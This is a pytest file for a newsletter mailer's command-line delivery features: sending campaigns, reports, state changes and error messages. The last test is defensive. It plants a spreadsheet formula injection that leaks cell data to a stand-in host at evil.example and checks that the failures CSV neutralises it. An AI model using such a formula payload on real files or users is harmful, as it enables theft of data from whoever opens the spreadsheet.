"""The delivery commands through the real `mailer` CLI, against aiosmtpd, on both databases."""

from __future__ import annotations

import csv
from email.header import Header
from pathlib import Path

import pytest
from typer.testing import CliRunner

from mailer.cli import delivery as delivery_cli
from mailer.cli.main import app
from mailer.delivery.capture import CaptureHandler, list_captured, start_capture
from tests.smtpd import SMTPTestServer, free_port

REPO = Path(__file__).resolve().parent.parent
DEMO = REPO / "examples" / "subscribers.csv"
ISSUE = REPO / "examples" / "issues" / "2022-15.yaml"


@pytest.fixture
def server():
    with SMTPTestServer() as running:
        yield running


@pytest.fixture
def mailer(database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, server):
    monkeypatch.chdir(tmp_path)  # no .env of the checkout
    monkeypatch.setenv("MAILER_DATABASE_URL", database_url)
    monkeypatch.setenv("MAILER_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("MAILER_SMTP_PORT", str(server.port))
    monkeypatch.setenv("MAILER_SECRET_KEY", "test-secret-key-0123456789abcdef")
    # Tables unwrapped. Rich fixes a console's width when it is made if COLUMNS is set
    # then (as pytest-xdist workers have it), so set the width on the console itself.
    monkeypatch.setattr(delivery_cli.out, "width", 250)
    runner = CliRunner()

    def run(*args: str, code: int = 0):
        result = runner.invoke(app, list(args))
        assert result.exit_code == code, (result.stdout, result.stderr, result.exception)
        return result

    return run


def test_create_send_report(mailer, server: SMTPTestServer, tmp_path: Path) -> None:
    mailer("lists", "add", "newsletter")
    mailer("lists", "add", "partners-only")
    mailer("subscribers", "import", str(DEMO), "--create-partners")
    created = mailer("campaign", "create", str(ISSUE), "--list", "newsletter", "--country", "VN,LA")
    assert "campaign 1 created (draft)" in created.stdout
    assert "20 recipient(s)" in created.stdout
    # The library says what is wrong; the command adds which command to use.
    draft = mailer("campaign", "resume", "1", code=1)
    assert "campaign 1 is draft, not paused: there is nothing to resume" in draft.stderr
    assert draft.stderr.rstrip().endswith("; send it now instead (use `mailer send 1`)")
    server.reject(server_first_vn(tmp_path), "550 5.1.1 No such user")
    sent = mailer("send", "1")
    assert "campaign 1 is sent: 19 sent, 1 failed" in sent.stdout
    assert server.count() == 19
    report = mailer("campaign", "report", "1", "--failures-csv", str(tmp_path / "failed.csv"))
    assert "19 sent, 0 retrying, 0 open, 1 failed, of 20" in report.stdout
    assert "VN" in report.stdout and "LA" in report.stdout
    with (tmp_path / "failed.csv").open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["email"] for r in rows] == [server_first_vn(tmp_path)]
    assert rows[0]["last_reply"] == "550 5.1.1 No such user"
    shown = mailer("campaign", "show", "1")
    assert "state: sent" in shown.stdout and "recipients: 20" in shown.stdout
    again = mailer("send", "1", code=1)
    assert again.stderr.startswith("error: campaign 1 is sent; it cannot become sending")
    history = mailer("campaign", "history", server_first_vn(tmp_path).upper())
    assert "1 Issue 15, 2022" in history.stdout and "failed" in history.stdout
    assert "550 5.1.1 No such user" in history.stdout
    assert "in no campaign's ledger" in mailer("campaign", "history", "nobody@x.org").stdout
    listed = mailer("campaign", "list")
    assert "2022-15" in listed.stdout
    # a sent campaign cannot be paused or resumed
    refused = mailer("campaign", "pause", "1", code=1)
    assert refused.stderr.startswith("error: campaign 1 is sent; it cannot become paused")
    assert "Traceback" not in refused.stderr


def server_first_vn(tmp_path: Path) -> str:
    with DEMO.open(encoding="utf-8") as handle:
        return next(row["email"] for row in csv.DictReader(handle) if row["country"] == "VN")


def test_pause_resume_cancel(mailer) -> None:
    mailer("lists", "add", "newsletter")
    mailer("campaign", "create", str(ISSUE), "--list", "newsletter", "--name", "x")
    mailer("campaign", "cancel", "1", "--reason", "wrong issue")
    assert "cancelled: wrong issue" in mailer("campaign", "show", "1").stdout
    assert mailer("send", "1", code=1).stderr.startswith("error: campaign 1 is cancelled")


def test_send_to_unreachable_server_is_one_line(mailer, monkeypatch) -> None:
    mailer("lists", "add", "newsletter")
    mailer("subscribers", "add", "a@example.org", "--list", "newsletter")
    mailer("campaign", "create", str(ISSUE), "--list", "newsletter")
    monkeypatch.setenv("MAILER_SMTP_PORT", str(free_port()))
    result = mailer("send", "1", code=1)
    assert result.stderr.startswith("error: cannot connect to SMTP server 127.0.0.1:")
    assert result.stderr.count("\n") == 1
    assert "state: draft" in mailer("campaign", "show", "1").stdout  # nothing started


def test_test_send_marks_subject_and_keeps_no_ledger(mailer, server: SMTPTestServer) -> None:
    result = mailer("test-send", str(ISSUE), "--to", "me@example.org, you@example.org")
    assert "me@example.org: 250" in result.stdout
    subjects = {str(m["Subject"]) for m in server.parsed()}
    assert len(subjects) == 1 and subjects.pop().startswith("[TEST] Fifth Anniversary")
    assert sorted(server.arrivals()) == ["me@example.org", "you@example.org"]
    assert "id" in mailer("campaign", "list").stdout  # the table, and no campaign in it
    assert "2022-15" not in mailer("campaign", "list").stdout


def test_bad_issue_file_names_file_and_line(mailer, tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("newsletter: lmec\nnumber: x\n", encoding="utf-8")
    result = mailer("campaign", "create", str(bad), code=1)
    assert f"{bad}:2: number" in result.stderr


def test_capture_server_stores_and_lists(tmp_path: Path) -> None:
    from mailer.delivery.smtp import SMTPTransport

    port = free_port()
    directory = tmp_path / "captured"
    controller = start_capture(directory, "127.0.0.1", port)
    try:
        transport = SMTPTransport("127.0.0.1", port, timeout=5)
        name, subject = Header("张玉军", "utf-8").encode(), Header("澜沧江", "utf-8").encode()
        message = (
            f"From: LMEC <news@lmec.example.org>\r\nTo: {name} <z@example.cn>\r\n"
            f"Subject: {subject}\r\n\r\nHello\r\n"
        ).encode()
        reply = transport.send("news@lmec.example.org", ["z@example.cn"], message)
        transport.close()
    finally:
        controller.stop()
    assert "captured as" in reply.text
    [item] = list_captured(directory)
    assert (item.sender, item.recipients, item.subject) == (
        "LMEC <news@lmec.example.org>",
        "张玉军 <z@example.cn>",
        "澜沧江",
    )
    assert item.path.read_bytes().startswith(b"X-Envelope-From: <news@lmec.example.org>\r\n")
    assert CaptureHandler(directory).directory == directory


def test_capture_list_shows_what_a_test_send_left(mailer, tmp_path: Path, monkeypatch) -> None:
    port = free_port()
    monkeypatch.setenv("MAILER_SMTP_PORT", str(port))
    assert "received" in mailer("capture", "--list").stdout  # empty table, no error
    controller = start_capture(tmp_path / "data" / "captured", "127.0.0.1", port)
    try:
        mailer("test-send", str(ISSUE), "--to", "editor@example.org")
    finally:
        controller.stop()
    listed = mailer("capture", "--list").stdout
    assert "editor@example.org" in listed and "[TEST]" in listed


def test_unreachable_database_is_one_line(mailer, monkeypatch) -> None:
    monkeypatch.setenv(
        "MAILER_DATABASE_URL", f"postgresql://nobody:secret@127.0.0.1:{free_port()}/nothing"
    )
    result = mailer("campaign", "list", code=1)
    assert result.stderr.startswith("error: database ")
    assert "secret" not in result.stderr  # the password is masked
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr


def test_send_refuses_a_paused_campaign_and_report_names_an_unwritable_file(
    mailer, server: SMTPTestServer, tmp_path: Path
) -> None:
    mailer("lists", "add", "newsletter")
    mailer("subscribers", "add", "a@example.org", "--list", "newsletter")
    mailer("campaign", "create", str(ISSUE), "--list", "newsletter")
    mailer("campaign", "schedule", "1", "--at", "2099-01-01 09:00", "--tz", "UTC")
    mailer("campaign", "pause", "1", "--reason", "checking the photos")
    refused = mailer("send", "1", code=1)
    assert refused.stderr == (
        "error: campaign 1 is paused (checking the photos); resume it first: "
        "mailer campaign resume 1\n"
    )
    assert server.count() == 0
    assert "state: paused" in mailer("campaign", "show", "1").stdout

    missing = tmp_path / "no-such-folder" / "failed.csv"
    result = mailer("campaign", "report", "1", "--failures-csv", str(missing), code=1)
    assert result.stderr.startswith(f"error: {missing}: cannot write:")
    assert result.stderr.count("\n") == 1


def test_a_campaign_name_too_long_for_the_column_is_one_line(mailer) -> None:
    mailer("lists", "add", "newsletter")
    result = mailer(
        "campaign", "create", str(ISSUE), "--list", "newsletter", "--name", "x" * 201, code=1
    )
    assert result.stderr == "error: name: at most 200 characters (201 given)\n"


def test_failures_csv_neutralises_formulas_like_the_web_export(
    mailer, server: SMTPTestServer, tmp_path: Path
) -> None:
    """A name a spreadsheet would run as a formula is written with an apostrophe before
    it, as the web app's failures.csv does (both are `mailer.delivery.failurescsv`)."""
    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"open")'
    mailer("lists", "add", "newsletter")
    mailer("subscribers", "add", "gone@example.org", "--name", formula, "--list", "newsletter")
    mailer("subscribers", "add", "here@example.org", "--name", "+1 Somchai", "--list", "newsletter")
    mailer("campaign", "create", str(ISSUE), "--list", "newsletter")
    server.reject("gone@example.org", "550 5.1.1 No such user")
    server.reject("here@example.org", "550 5.7.1 -relaying denied")
    mailer("send", "1")
    target = tmp_path / "failed.csv"
    mailer("campaign", "report", "1", "--failures-csv", str(target))
    with target.open(encoding="utf-8", newline="") as handle:
        rows = {row["email"]: row for row in csv.DictReader(handle)}
    assert rows["gone@example.org"]["name"] == "'" + formula
    assert rows["here@example.org"]["name"] == "'+1 Somchai"
    assert rows["gone@example.org"]["last_reply"] == "550 5.1.1 No such user"
